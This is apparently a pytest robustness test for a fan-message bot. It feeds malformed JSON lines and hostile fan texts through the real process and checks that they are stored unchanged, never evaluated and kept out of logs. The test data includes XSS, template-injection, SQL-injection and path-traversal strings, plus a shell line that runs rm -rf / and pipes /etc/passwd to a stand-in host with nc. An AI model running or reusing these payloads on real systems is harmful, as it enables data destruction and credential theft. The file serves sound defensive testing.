"""Lines that are broken, and texts that would be commands anywhere else, through the real process."""

import json
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from fanbot.testing.crowd import write_workspace
from fanbot.testing.pipes import Fanbot, exported, line

MEGABYTE = 1_000_000
QUESTION = "is there a size chart"
PROMO_MARK = "[promo:mine]"

TEXTS: Mapping[str, str] = {
    "empty": "",
    "spaces": " \t\r\n  ",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "controls": "".join(chr(code) for code in range(1, 32)) + "\x7f\x80\x9b",
    "bidirectional": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c",
    "line separators": "one\u2028two\u2029three\x85four",
    "zero width": "s\u200bi\u200cz\u200de\ufeff",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "**bold** [link](javascript:alert(1)) `code` ![x](http://x.invalid/p.png) # head",
    "everyone": "@everyone @here <@123456> <@&1>",
    "expression": "{{ 7*7 }} {{ ''.__class__.__mro__ }} {{ facts }} ${7*7} #{7*7} <%= 7*7 %>",
    "statement": "{% for x in range(10**9) %}{{ x }}{% endfor %}{% promo %}buy{% endpromo %}",
    "mark": f"{PROMO_MARK} [signal:mine]",
    "sql": "'; DROP TABLE event; -- \" OR 1=1 /* */ ; ATTACH DATABASE 'x' AS y",
    "path": "../../../../etc/passwd C:\\Windows\\System32 file:///etc/shadow %2e%2e%2f",
    "shell": "$(rm -rf /) `reboot` ; cat /etc/passwd | nc x.invalid 1 && true > /tmp/x",
    "format": "%s %n %d {0} {author.id.__class__} %(name)s \\x41 \\u0041",
    "json inside": '{"id": "inner", "channel": "x", "author": {"id": "x"}, "text": "x"}\n{"a": 1}',
    "brackets": "[" * 100_000,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 500,
    "combining": "e" + "\u0301" * 10_000,
    "other planes": "\U0001f600\U0010ffff\ufffe\uffff\ue000",
    "a megabyte": "é" * (MEGABYTE // 2),
    "a megabyte of words": "purple elephants " * (MEGABYTE // 17),
    "a megabyte without a space": "a" * MEGABYTE,
}
"""Texts that come back from the export exactly as they were written, by the name that is their id."""

MENDED: Mapping[str, tuple[str, str]] = {
    "nul": ("a\0b", "a\ufffdb"),
    "half a pair": ("a\ud83d b", "a\ufffd b"),
    "the other half": ("\udc00", "\ufffd"),
}
"""Texts that no store takes, and what is kept of them."""

IDS = (
    "../../etc/passwd",
    "a/b%2Fc",
    "'; DROP TABLE event; --",
    "{{ 7*7 }}",
    "\x1b[31m",
    "__proto__",
    "ID " * 66,
)
NAMES = (
    "{{ 7*7 }}",
    "{% promo %}x{% endpromo %}",
    "\x1b[31mRed\x1b[0m",
    "@everyone",
    "\u202eadA",
    "<b>Ada</b>",
)

GOOD = {"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": "hello"}
BAD: Mapping[str, bytes] = {
    "no json": b"hello",
    "nothing": b"",
    "a list": b"[1, 2]",
    "a number": b"7",
    "null": b"null",
    "half an object": b'{"id": "1", "channel": "ada"',
    "two objects": b"{} {}",
    "invalid utf-8": b'{"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": "\xff\xfe"}',
    "an encoded surrogate": b'{"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": "\xed\xa0\x80"}',
    "an overlong slash": b'{"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": "\xc0\xaf"}',
    "utf-16": '{"id": "x"}'.encode("utf-16"),
    "a raw nul": b'{"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": "a\0b"}',
    "not a number": b'{"id": "x", "channel": "ada", "author": {"id": "ada"}, "text": NaN}',
    "brackets": b"[" * 100_000,
    "nested": b"[" * 100_000 + b"]" * 100_000,
    "nested inside": b'{"id": "x", "more": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}",
    "five megabytes": line("x", "x" * 5 * MEGABYTE).rstrip(),
    "an id of 200 kB": line("x" * 200_000, "hello").rstrip(),
    "a channel of 200 kB": line("x", "hello", channel="x" * 200_000).rstrip(),
    "a fan of 200 kB": line("x", "hello", fan="x" * 200_000).rstrip(),
    "a huge number as id": b'{"id": 1e400, "channel": "ada", "author": {"id": "ada"}, "text": "x"}',
    "an endless number as id": b'{"id": 1'
    + b"0" * 5000
    + b', "channel": "a", "author": {"id": "a"}, "text": "x"}',
    "a negative id": b'{"id": -1.5, "channel": "ada", "author": {"id": "ada"}, "text": "x"}',
    "an empty id": line("", "hello").rstrip(),
    "an empty channel": line("x", "hello", channel="").rstrip(),
    "an author in words": line("x", "hello", author="ada").rstrip(),
    "an author without an id": line("x", "hello", author={}).rstrip(),
    "another kind": line("x", "hello", kind="explosion").rstrip(),
    **{
        f"{sort} as {key}": json.dumps({**GOOD, key: value}).encode()
        for key in ("id", "channel", "author", "text", "direct", "kind", "reply_to", "attachments")
        for sort, value in (("a list", [1]), ("an object", {"a": {}}), ("a fraction", 1.5))
    },
}
"""Lines that are no event: each gets one complaint, by what is wrong with it."""


@dataclass
class Run:
    """What one process said to all of it, and what its store held afterwards."""

    process: Fanbot
    code: int
    bad_lines: Mapping[str, int]
    messages: Mapping[str, Mapping[str, object]]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """Feed bad lines and good ones in turns; every good text in a conversation of its own."""
    folder = write_workspace(tmp_path_factory.mktemp("hostile"))
    good = [
        *(line(name, text, channel=name, fan=name) for name, text in TEXTS.items()),
        *(line(name, text, channel=name, fan=name) for name, (text, _) in MENDED.items()),
        *(line(id_, QUESTION, channel=id_, fan=id_, thread=id_, reply_to=id_) for id_ in IDS),
        *(
            line(
                f"name {number}", "good morning", channel=f"name {number}", author={"id": name, "name": name}
            )
            for number, name in enumerate(NAMES)
        ),
        line("unknown keys", QUESTION, channel="unknown keys", more={"a": [1, {"b": None}]}, __class__="x"),
        b'{"id": "no", "id": "twice", "channel": "t", "author": {"id": "t"}, "text": "no", "text": "yes"}\n',
        b"\xef\xbb\xbf" + line("marked", "hello there", channel="marked"),
        line("far future", QUESTION, channel="far", sent_at="9999-12-31T23:59:59Z"),
        line("far past", QUESTION, channel="past", sent_at="0001-01-01T00:00:00Z"),
        line("no time", QUESTION, channel="no time", sent_at={"a": [1]}),
    ]
    lines: list[bytes] = []
    bad_lines: dict[str, int] = {}
    waiting = list(BAD.items())
    for each in good:
        for name, bad in waiting[:2]:
            lines.append(bad + b"\n")
            bad_lines[name] = len(lines)
        del waiting[:2]
        lines.append(each)
    assert not waiting
    with Fanbot(folder) as process:
        process.write(b"".join(lines))
        process.end_input()
        code = process.wait()
    messages = {str(one["id"]): one for one in exported(folder) if one["type"] == "message"}
    return Run(process, code, bad_lines, messages)


def test_the_process_ends_well(run: Run) -> None:
    """Whatever came, the end of input is a good end, and nothing was torn open."""
    assert run.code == 0
    assert not any("Traceback" in each for each in run.process.complaints)


@pytest.mark.parametrize("name", BAD)
def test_a_bad_line_gets_one_complaint_with_its_number(run: Run, name: str) -> None:
    """It says what was expected, in one line of JSON on standard error."""
    told = [
        each for each in map(json.loads, run.process.complaints) if each.get("line") == run.bad_lines[name]
    ]
    assert len(told) == 1
    assert "expected" in told[0]["error"]


def test_no_good_line_gets_a_complaint(run: Run) -> None:
    """Only the bad lines are complained about."""
    told = {each["line"] for each in map(json.loads, run.process.complaints) if "line" in each}
    assert told == set(run.bad_lines.values())


def test_every_good_line_is_stored_and_decided(run: Run) -> None:
    """Each is confirmed, kept and decided once; no decision is a failure."""
    names = [f"name {number}" for number in range(len(NAMES))]
    expected = {
        *TEXTS,
        *MENDED,
        *IDS,
        *names,
        "unknown keys",
        "twice",
        "marked",
        "far future",
        "far past",
        "no time",
    }
    assert set(run.process.receipts) == set(run.messages) == expected
    for record in run.messages.values():
        assert record["decision"]
        assert "failed" not in str(record["decision"])


@pytest.mark.parametrize("name", TEXTS)
def test_the_export_has_the_text_exactly(run: Run, name: str) -> None:
    """What a fan wrote is data and comes back unchanged (G8)."""
    assert run.messages[name]["text"] == TEXTS[name]


@pytest.mark.parametrize("name", MENDED)
def test_what_no_store_takes_is_replaced(run: Run, name: str) -> None:
    """NUL and halves of surrogate pairs become U+FFFD."""
    assert run.messages[name]["text"] == MENDED[name][1]


@pytest.mark.parametrize("name", IDS)
def test_hostile_ids_are_names_and_nothing_else(run: Run, name: str) -> None:
    """An id that looks like a path, a statement or a template comes back as it is, also in the reply."""
    record = run.messages[name]
    assert (record["channel"], record["thread"], record["reply_to"]) == (name, name, name)
    replies = [reply for reply in run.process.replies if reply.in_reply_to == name]
    assert [reply.channel for reply in replies] == [name]


def test_of_a_key_that_comes_twice_the_last_counts(run: Run) -> None:
    """As most readers of JSON do it."""
    assert run.messages["twice"]["text"] == "yes"


def test_nothing_of_a_fan_is_evaluated_or_shown_raw(run: Run) -> None:
    """No reply holds a result, a control character, a call to everybody or a mark of the fan's (G8)."""
    said = "\n".join(reply.text for reply in run.process.replies)
    assert "49" not in said
    assert "@everyone" not in said
    assert PROMO_MARK not in said
    assert not any(reply.promotional for reply in run.process.replies)
    assert all(letter == "\n" or letter.isprintable() for letter in said)


def test_the_log_holds_nothing_of_a_fan(run: Run) -> None:
    """At the default level no text, name or id of a fan stands on standard error (P28)."""
    told = "\n".join(run.process.complaints)
    theirs = {
        *(text.strip()[:40] for text in TEXTS.values() if len(text.strip()) > 3),
        *IDS,
        *NAMES,
        *(name for name in (*TEXTS, *MENDED) if " " in name and name not in BAD),
        QUESTION,
    }
    assert [each for each in theirs if each in told] == []


def test_ten_thousand_messages_of_one_fan(tmp_path: Path) -> None:
    """All are decided in order within a minute; a person gets one item and the fan one note."""
    folder = write_workspace(tmp_path)
    count = 10_000
    told = b"".join(line(str(number), f"purple elephants eat {number} bicycles") for number in range(count))
    began = time.monotonic()
    with Fanbot(folder) as process:
        process.write(told)
        process.end_input()
        assert process.wait() == 0
    seconds = time.monotonic() - began
    records = exported(folder)
    messages = [record for record in records if record["type"] == "message"]
    assert process.receipts == [record["id"] for record in messages] == [str(n) for n in range(count)]
    moments = [record["decision"]["at"] for record in messages if isinstance(record["decision"], dict)]
    assert len(moments) == count
    assert moments == sorted(moments)
    assert [reply.kind for reply in process.replies] == ["acknowledgement"]
    items = [record for record in records if record["type"] == "item"]
    assert [item["messages"] for item in items] == [count]
    assert seconds < 60
